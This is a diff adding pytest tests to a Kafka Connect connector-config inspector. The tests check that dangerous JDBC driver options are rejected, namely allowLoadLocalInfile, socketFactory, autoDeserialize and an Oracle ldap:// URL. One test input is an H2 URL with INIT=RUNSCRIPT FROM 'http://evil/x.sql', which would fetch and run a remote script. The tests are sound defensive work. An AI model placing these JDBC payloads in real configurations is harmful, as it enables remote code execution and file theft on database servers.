@@ -26,6 +26,14 @@ def inspected(worker: WorkerConfig, **more: str) -> Inspection:
     return inspect_connector({"name": "s", "connector.class": "a.Source", **more}, worker=worker)
 
 
+@pytest.fixture
+def debezium(tmp_path: Path, worker: WorkerConfig) -> str:
+    """The name of a class of Debezium that the worker finds."""
+    name = "io.debezium.connector.mysql.MySqlConnector"
+    source_jar(tmp_path / "debezium" / "debezium-1.0.jar", name)
+    return name
+
+
 @pytest.mark.parametrize("text", ["${kconnect:KCONNECT_HOSTED_2}", "a${kconnect:x:y}b", "${kconnect:${v:a}"])
 def test_the_runs_own_provider_of_secrets_cannot_be_named(worker: WorkerConfig, text: str) -> None:
     key = "transforms.i.static.value"
@@ -85,3 +93,46 @@ def test_a_key_that_has_records_written_to_an_internal_topic_is_refused(
 def test_a_source_may_have_an_offset_topic_of_its_own(worker: WorkerConfig) -> None:
     assert not inspected(worker, **{"offsets.storage.topic": "mine"}).errors
     assert not inspected(worker, **{"offsets.storage.topic": "connect-offsets"}).errors
+
+
+@pytest.mark.parametrize(
+    ("key", "text", "named"),
+    [
+        ("connection.url", "jdbc:mysql://evil/x?allowLoadLocalInfile=true", "allowLoadLocalInfile"),
+        ("database.url", "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'", "INIT"),
+        ("any.key", "jdbc:postgresql://h/d?socket%46actory=a.B", "socketFactory"),
+        ("iceberg.catalog.uri", "JDBC:oracle:thin:@ldap://evil/x", "ldap://"),
+    ],
+)
+def test_what_has_a_jdbc_driver_load_code_is_refused_wherever_a_url_is(
+    worker: WorkerConfig, key: str, text: str, named: str
+) -> None:
+    [message] = inspected(worker, **{key: text}).errors[key]
+    assert message == f"has what can load code or use files in a JDBC driver: {named}; remove it"
+
+
+@pytest.mark.parametrize("key", ["driver.allowLoadLocalInfile", "database.sslfactory", "hibernate.c3p0.classPath"])
+def test_keys_that_become_parameters_of_debeziums_drivers_are_checked_too(
+    worker: WorkerConfig, debezium: str, key: str
+) -> None:
+    config = {"name": "d", "connector.class": debezium, "database.hostname": "db", key: "x"}
+    assert list(inspect_connector(config, worker=worker).errors) == [key]
+    assert not inspected(worker, **{key: "x"}).errors  # of others they are just keys
+
+
+def test_keys_next_to_a_jdbc_url_become_parameters(worker: WorkerConfig) -> None:
+    key = "connection.autoDeserialize"
+    assert list(inspected(worker, **{key: "true", "connection.url": "jdbc:mysql://db/x"}).errors) == [key]
+    assert not inspected(worker, **{key: "true", "connection.url": "http://db"}).errors
+
+
+@pytest.mark.parametrize(
+    ("key", "text"),
+    [
+        ("connection.url", "jdbc:postgresql://db/shop?user=me&password=p&sslmode=require"),
+        ("connection.url", "jdbc:sqlserver://db:1433;databaseName=shop;encrypt=true"),
+        ("topic", "init=1"),
+    ],
+)
+def test_ordinary_urls_and_texts_are_no_error(worker: WorkerConfig, key: str, text: str) -> None:
+    assert not inspected(worker, **{key: text}).errors
